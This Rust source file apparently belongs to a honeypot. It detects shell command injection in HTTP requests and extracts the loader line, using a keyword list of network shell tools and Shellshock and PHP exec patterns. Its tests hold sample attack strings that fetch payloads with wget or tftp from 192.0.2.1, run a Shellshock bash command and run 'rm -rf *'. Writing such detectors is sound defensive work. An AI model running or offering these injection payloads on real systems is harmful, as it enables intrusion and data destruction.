//! Shell lines that hide in requests: where the persona's page is injectable, and
//! wherever else a loader's words stand behind a shell's marks.

use super::fields::{Field, elements, form, json, percent_decode};
use super::request::Request;
use super::upload::parts;
use crate::limits::INJECTED_LINE_BYTES;
use memchr::memmem;
use ukai_persona::{Injection, InjectionPoint, Page};

/// A line that was meant for a shell.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Injected {
    /// What the attacker wrote.
    pub(super) value: Vec<u8>,
    /// The line that the shell gets.
    pub(super) line: Vec<u8>,
    /// Whether the page shows what it prints.
    pub(super) shown: bool,
    /// Whether it is an attack, or the page's ordinary use.
    pub(super) attack: bool,
    /// The page's vulnerability, where it is known.
    pub(super) reference: String,
}

/// Fields of the body, by whatever its form is.
pub(super) fn body_fields(request: &Request) -> Vec<Field> {
    let parts = parts(request);
    if !parts.is_empty() {
        return parts
            .into_iter()
            .filter(|part| part.file.is_none())
            .map(|part| (part.field.unwrap_or_default(), part.bytes.to_vec()))
            .collect();
    }
    let body = request.body.trim_ascii();
    match body.first() {
        Some(b'<') => elements(body),
        Some(b'{' | b'[') => json(body),
        Some(_) if !super::is_program(body) => form(body),
        _ => Vec::new(),
    }
}

/// The shell line in a request to `page`, or anywhere in it.
pub(super) fn find(request: &Request, page: Option<&Page>) -> Option<Injected> {
    let at_page = page.and_then(|page| {
        let injection = page.injection.as_ref()?;
        let value = value_at(request, page, injection)?;
        Some(Injected {
            line: filled(&injection.line, &value),
            attack: injection.line.trim() == "{value}" || has_shell_mark(&value),
            shown: true,
            reference: injection.reference.clone(),
            value,
        })
    });
    at_page.or_else(|| {
        let line = anywhere(request)?;
        Some(Injected {
            value: line.clone(),
            line,
            shown: false,
            attack: true,
            reference: String::new(),
        })
    })
}

fn value_at(request: &Request, page: &Page, injection: &Injection) -> Option<Vec<u8>> {
    let named = |fields: Vec<Field>| {
        fields
            .into_iter()
            .filter(|(name, value)| !value.is_empty() && injection.names.contains(name))
            .max_by_key(|(_, value)| has_shell_mark(value))
            .map(|(_, value)| value)
    };
    let value = match injection.point {
        InjectionPoint::Field => {
            let mut fields = form(request.query());
            fields.extend(body_fields(request));
            named(fields)
        }
        InjectionPoint::Element | InjectionPoint::Json => named(body_fields(request)),
        InjectionPoint::Header => injection
            .names
            .iter()
            .find_map(|name| request.header(name))
            .filter(|value| has_shell_mark(value))
            .and_then(behind_mark),
        InjectionPoint::Query => Some(percent_decode(request.query(), true)),
        InjectionPoint::Path => {
            let path = request.path();
            let fixed = page.path.trim_end_matches('*').len();
            path.get(fixed..).map(<[u8]>::to_vec)
        }
    };
    value
        .filter(|value| !value.trim_ascii().is_empty())
        .map(|value| value[..value.len().min(INJECTED_LINE_BYTES)].to_vec())
}

fn filled(template: &str, value: &[u8]) -> Vec<u8> {
    let (before, after) = template.split_once("{value}").unwrap_or((template, ""));
    [before.as_bytes(), value, after.as_bytes()].concat()
}

/// Whether a shell would see more in it than a word.
fn has_shell_mark(value: &[u8]) -> bool {
    value.iter().any(|byte| matches!(byte, b';' | b'|' | b'`' | b'\n' | b'&'))
        || memmem::find(value, b"$(").is_some()
        || memmem::find(value, b"${").is_some()
}

/// Looks at every place of a request where bots put lines.
fn anywhere(request: &Request) -> Option<Vec<u8>> {
    let mut places: Vec<Vec<u8>> = vec![percent_decode(&request.target, true)];
    places.extend(form(request.query()).into_iter().map(|(_, value)| value));
    places.extend(body_fields(request).into_iter().map(|(_, value)| value));
    let skipped = ["accept", "accept-encoding", "accept-language", "content-type", "host"];
    for (name, value) in &request.headers {
        if !skipped.contains(&name.as_str()) {
            places.push(value.clone());
        }
    }
    if !super::is_program(&request.body) {
        places.push(request.body.clone());
    }
    // The narrowest place first: fields, headers, then whole target and body.
    places.rotate_left(1);
    places.iter().find_map(|place| loader_line(place))
}

/// Words that loaders use and honest parameters do not.
const LOADER_WORDS: [&[u8]; 12] = [
    b"wget ",
    b"wget$",
    b"curl ",
    b"curl$",
    b"tftp ",
    b"busybox ",
    b"ftpget ",
    b"chmod ",
    b"/bin/sh",
    b"/tmp",
    b"/bin/bash",
    b"/dev/tcp/",
];

/// The shell line in a text, if there is one.
fn loader_line(text: &[u8]) -> Option<Vec<u8>> {
    let text = &text[..text.len().min(INJECTED_LINE_BYTES)];
    if !LOADER_WORDS.iter().any(|word| memmem::find(text, word).is_some()) {
        return None;
    }
    // Shellshock (CVE-2014-6271).
    if let Some(start) = memmem::find(text, b"() {")
        && let Some(end) = memmem::find(&text[start..], b"};")
    {
        return Some(text[start + end + 2..].trim_ascii().to_vec());
    }
    // PHP code: what it hands to a shell.
    for call in [&b"system("[..], b"shell_exec(", b"passthru(", b"exec(", b"popen("] {
        if let Some(start) = memmem::find(text, call) {
            let rest = text[start + call.len()..].trim_ascii_start();
            if let Some((quote @ (b'\'' | b'"'), rest)) = rest.split_first() {
                let end = memchr::memchr(*quote, rest).unwrap_or(rest.len());
                return Some(rest[..end].to_vec());
            }
        }
    }
    if starts_as_command(text) {
        return Some(text.trim_ascii().to_vec());
    }
    behind_mark(text)
}

fn starts_as_command(text: &[u8]) -> bool {
    let text = text.trim_ascii_start();
    [
        &b"cd "[..],
        b"wget ",
        b"curl ",
        b"rm ",
        b"busybox ",
        b"/bin/busybox ",
        b"sh -c",
        b"echo;",
        b"echo ;",
    ]
    .iter()
    .any(|start| text.starts_with(start))
        && (has_shell_mark(text) || memmem::find(text, b"http").is_some())
}

/// What stands behind the first shell mark: inside back-ticks or `$( )`, or after it.
fn behind_mark(text: &[u8]) -> Option<Vec<u8>> {
    let inside = |open: &[u8], close: u8| {
        let start = memmem::find(text, open)? + open.len();
        let end = memchr::memrchr(close, &text[start..]).map_or(text.len(), |end| start + end);
        Some(text[start..end].to_vec())
    };
    let line = inside(b"`", b'`').or_else(|| inside(b"$(", b')')).or_else(|| {
        let mark = text.iter().position(|b| matches!(b, b';' | b'|' | b'\n'))?;
        let rest = &text[mark..];
        let start = rest.iter().position(|b| !matches!(b, b';' | b'|' | b'&' | b' ' | b'\n'))?;
        Some(rest[start..].to_vec())
    })?;
    let line = line.trim_ascii().to_vec();
    (!line.is_empty()).then_some(line)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(text: &[u8]) -> Option<String> {
        loader_line(text).map(|line| String::from_utf8_lossy(&line).into_owned())
    }

    #[test]
    fn loaders_lines_are_cut_out() {
        for (text, expected) in [
            ("x;wget http://192.0.2.1/a", Some("wget http://192.0.2.1/a")),
            (
                "`cd /tmp; wget http://192.0.2.1/a -O a`",
                Some("cd /tmp; wget http://192.0.2.1/a -O a"),
            ),
            ("$(busybox tftp -g 192.0.2.1)", Some("busybox tftp -g 192.0.2.1")),
            ("() { :;}; /bin/bash -c 'id'", Some("/bin/bash -c 'id'")),
            ("<?php system('wget http://192.0.2.1/a');", Some("wget http://192.0.2.1/a")),
            ("cd /tmp; rm -rf *", Some("cd /tmp; rm -rf *")),
            ("echo;wget http://192.0.2.1/a", Some("echo;wget http://192.0.2.1/a")),
            ("Wget/1.20 (linux)", None),
            ("Mozilla/5.0 (X11; Linux x86_64)", None),
            ("how to use wget and curl", None),
            ("/tmp/file.txt", None),
        ] {
            assert_eq!(line(text.as_bytes()).as_deref(), expected, "{text}");
        }
    }
}
